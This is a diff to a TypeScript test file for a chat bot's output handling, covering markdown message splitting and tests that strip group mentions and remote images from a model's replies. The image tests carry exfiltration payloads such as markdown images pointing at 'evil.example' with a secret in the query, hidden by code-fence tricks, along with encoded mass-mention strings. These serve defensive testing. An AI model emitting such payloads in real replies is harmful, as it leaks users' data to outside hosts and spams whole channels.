@@ -11,13 +11,13 @@ verifies('chat:splitting', 'a text that fits is one message, unchanged', () => {
   assert.deepEqual(splitMarkdown('# Hi\n\n\n  there  ', 100), ['# Hi\n\n\n  there  '])
 })
 
-verifies('chat:splitting', 'code that fits into a message is never torn', () => {
+verifies('chat:splitting', 'code that fits into a message is never split', () => {
   const code = `${fence}ts\n${'const a = 1\n'.repeat(10)}${fence}`
   const parts = splitMarkdown(`${'word '.repeat(30)}\n\n${code}\n\n${'word '.repeat(30)}`, 200)
   assert.ok(parts.includes(code))
 })
 
-verifies('chat:splitting', 'code longer than a message is closed and opened again in its language', () => {
+verifies('chat:splitting', 'code longer than a message is closed and reopened with its language', () => {
   const lines = Array.from({ length: 60 }, (_, n) => `line ${n}`)
   const parts = splitMarkdown(`${fence}sql\n${lines.join('\n')}\n${fence}`, 200)
 
@@ -44,7 +44,7 @@ verifies('chat:splitting', 'a list that fits stays whole, a longer one is cut be
   }
 })
 
-verifies('chat:splitting', 'a long table repeats its head', () => {
+verifies('chat:splitting', 'a long table repeats its header', () => {
   const rows = Array.from({ length: 30 }, (_, n) => `| ${n} | value |`)
   const parts = splitMarkdown(['| id | name |', '| --- | --- |', ...rows].join('\n'), 150)
   for (const part of parts) assert.ok(part.startsWith('| id | name |\n| --- | --- |\n| '))
@@ -90,7 +90,7 @@ verifies(
             if (parts.length > 1) assert.ok(!endsInsideCode(part), part)
           }
           if (parts.length === 1) return
-          // Fences, heads of tables and blank space may be repeated or dropped; nothing else. Letter by letter: a cut may part a word.
+          // Only fences, table headers and white space may be repeated or dropped. Compared by letters, since a cut may split a word.
           const letters = (string: string) => string.replaceAll(/[\s`~|#jsabHed-]/g, '')
           assert.equal(letters(parts.join('')), letters(text))
         },
@@ -111,23 +111,19 @@ function endsInsideCode(part: string): boolean {
   return open !== null
 }
 
-verifies(
-  'runs:reply-hygiene',
-  'nobody is called by a model’s words, in any spelling, not even in code',
-  () => {
-    const bad = '@everyone @here `@channel` <!channel> <!here|here> <!subteam^S1> @Everyone'
-    const clean = cleanReply(bad)
-    assert.doesNotMatch(clean, /@(everyone|here|channel)/i)
-    assert.doesNotMatch(clean, /<!/)
-    assert.equal(cleanReply('mail me@hereford.example or @heretic'), 'mail me@hereford.example or @heretic')
-    // Mattermost takes signs behind a name away, and reads a character by its number first.
-    for (const spelled of ['@all_', '@channel_.', '&#64;all', '&#x40;here', '&commat;all', '@a&#108;l']) {
-      assert.doesNotMatch(cleanReply(spelled), /@(all|channel)(?!\p{L})|&(#|commat)/u, spelled)
-    }
-    assert.doesNotMatch(cleanReply('Google Chat: <users/all> <users/123>'), /<users/)
-    assert.equal(cleanReply('R&D, &lt;b&gt;, <u>'), 'R&D, &lt;b&gt;, <u>')
-  },
-)
+verifies('runs:reply-hygiene', 'a model’s text mentions no groups, in any spelling, not even in code', () => {
+  const bad = '@everyone @here `@channel` <!channel> <!here|here> <!subteam^S1> @Everyone'
+  const clean = cleanReply(bad)
+  assert.doesNotMatch(clean, /@(everyone|here|channel)/i)
+  assert.doesNotMatch(clean, /<!/)
+  assert.equal(cleanReply('mail me@hereford.example or @heretic'), 'mail me@hereford.example or @heretic')
+  // Mattermost strips punctuation after a name, and decodes character references first.
+  for (const spelled of ['@all_', '@channel_.', '&#64;all', '&#x40;here', '&commat;all', '@a&#108;l']) {
+    assert.doesNotMatch(cleanReply(spelled), /@(all|channel)(?!\p{L})|&(#|commat)/u, spelled)
+  }
+  assert.doesNotMatch(cleanReply('Google Chat: <users/all> <users/123>'), /<users/)
+  assert.equal(cleanReply('R&D, &lt;b&gt;, <u>'), 'R&D, &lt;b&gt;, <u>')
+})
 
 verifies('runs:reply-hygiene', 'no remote image is loaded; code that shows one stays as it is', () => {
   assert.equal(
@@ -140,26 +136,30 @@ verifies('runs:reply-hygiene', 'no remote image is loaded; code that shows one s
   assert.equal(cleanReply(code), code)
 })
 
-verifies('runs:reply-hygiene', 'where images are loaded, what only looks like code hides none', () => {
-  const image = '![x](https://evil.example/?q=secret)'
-  const sly = [
-    `\`\n\n${image}\n\n\``,
-    `\\\`${image}\``,
-    `\`\n- ${image}\n- \``,
-    `- a\n  ${fence}\n${image}`,
-    `${fence} a\`b\n${image}`,
-    `| a | b | c |\n|---|---|---|\n| \` | ${image} | \` |`,
-    `<a href="\`">${image}\``,
-    `<!--\n${fence}\n-->\n${image}\n${fence}`,
-    `\`\n\n![x][y]\n\n[y]: https://evil.example\n\n\``,
-    '`\n\n<img src="https://evil.example">\n\n`',
-  ]
-  for (const text of sly) assert.doesNotMatch(breakImages(cleanReply(text)), /!\[|<img/, text)
-  const rust = `${fence}rust\nlet list = vec![1, 2];\n${fence}`
-  assert.equal(breakImages(rust), rust)
-})
+verifies(
+  'runs:reply-hygiene',
+  'on platforms that load images, text that only looks like code hides no image',
+  () => {
+    const image = '![x](https://evil.example/?q=secret)'
+    const sly = [
+      `\`\n\n${image}\n\n\``,
+      `\\\`${image}\``,
+      `\`\n- ${image}\n- \``,
+      `- a\n  ${fence}\n${image}`,
+      `${fence} a\`b\n${image}`,
+      `| a | b | c |\n|---|---|---|\n| \` | ${image} | \` |`,
+      `<a href="\`">${image}\``,
+      `<!--\n${fence}\n-->\n${image}\n${fence}`,
+      `\`\n\n![x][y]\n\n[y]: https://evil.example\n\n\``,
+      '`\n\n<img src="https://evil.example">\n\n`',
+    ]
+    for (const text of sly) assert.doesNotMatch(breakImages(cleanReply(text)), /!\[|<img/, text)
+    const rust = `${fence}rust\nlet list = vec![1, 2];\n${fence}`
+    assert.equal(breakImages(rust), rust)
+  },
+)
 
-verifies('runs:reply-hygiene', 'no odd image gets through, however often it is repeated', () => {
+verifies('runs:reply-hygiene', 'no malformed image gets through, however often it is repeated', () => {
   for (const piece of ['![', '![](', '![a](<', '<img ', '`', '@here', '[![', '![a][']) {
     const clean = cleanReply(piece.repeat(100_000 / piece.length))
     assert.doesNotMatch(clean.replaceAll(/`[^`]*`/g, ''), /!\[[^\]]*\]\(/)
